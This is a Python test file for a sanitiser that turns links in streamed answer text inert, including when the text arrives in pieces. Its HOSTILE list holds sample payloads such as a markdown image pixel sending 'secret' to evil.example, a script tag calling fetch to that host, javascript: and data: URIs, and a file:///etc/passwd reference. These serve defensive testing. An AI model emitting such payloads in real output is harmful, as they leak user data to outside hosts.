"""No part of an answer can become a link, however it is cut into pieces. Everything else stays as it is."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.text.links import inert, without_links

ADDRESS = re.compile(
    r"[a-z][a-z0-9+.-]+://\S|www\.\w|javascript:\S|mailto:\S|(?<![:/])//[a-z0-9-]+\.|data:\w+/|\]\(|<\s*/?(?:img|a|script)\b",
    re.I,
)
HOSTILE = [
    "![pixel](https://evil.example/p?q=secret)",
    "[click here](https://evil.example)",
    "See <https://evil.example/x>, now.",
    "See HTTPS://EVIL.EXAMPLE/X now.",
    "[x](//evil.example/p.png)",
    "[x]: //evil.example/p.png",
    "[x][y]\n\n[y]: http://evil.example",
    "[x](/logout)",
    "www.evil.example/path",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "mailto:someone@evil.example?body=secret",
    'An image <img src="//evil.example/p"> and <a href=x>one</a>.',
    "<script>fetch('//evil.example')</script><!-- -->",
    "請看http://evil.example/路徑。",
    "請看//evil.example/p。",
    "ftp://evil.example file:///etc/passwd s3://bucket/key",
]
HARMLESS = [
    "Force equals mass times acceleration [1], F = m·a.",
    "If a < b and b > c, then vector<int> x[3]; f(x) // a comment",
    "The ratio is 3:4 and the data: 5, 6, 7; see section 2.1.",
    "作用力と反作用力は等しい[2]。",
    "He wrote (in 1687): every action has a reaction.",
    "e.g. i.e. a.b and/or C++ 10:30",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_everything_that_could_be_a_link_is_made_inert(text: str) -> None:
    assert ADDRESS.search(text)
    assert not ADDRESS.search(without_links(text))
    assert not re.search(r"https?:|\]\(", without_links(text), re.IGNORECASE)


@pytest.mark.parametrize("text", HARMLESS)
def test_text_without_links_is_unchanged(text: str) -> None:
    assert without_links(text) == text


def test_the_words_around_an_address_stay() -> None:
    assert without_links("Look (https://a.example/b?c=d), then go.") == "Look ((…)), then go."
    assert without_links("[this page](https://a.example)!") == "[this page] ((…))!"


@given(st.lists(st.sampled_from(HOSTILE + HARMLESS), max_size=3), st.lists(st.integers(1, 12), min_size=1))
def test_a_text_in_pieces_gives_the_same_result_as_the_whole(texts: list[str], sizes: list[int]) -> None:
    text, at = " ".join(texts), 0
    pieces: list[str] = []
    while at < len(text):
        size = sizes[len(pieces) % len(sizes)]
        pieces.append(text[at : at + size])
        at += size
    released = list(inert(pieces))
    assert "".join(released) == without_links(text)
    assert all(released)


@given(st.text(alphabet="htps:/w.[]()<img> evil\n例", max_size=60))
def test_making_it_inert_once_is_enough(text: str) -> None:
    once = without_links(text)
    assert without_links(once) == once


def test_a_long_text_without_spaces_is_released_in_pieces() -> None:
    assert len(list(inert(["x" * 1500] * 4))) > 1
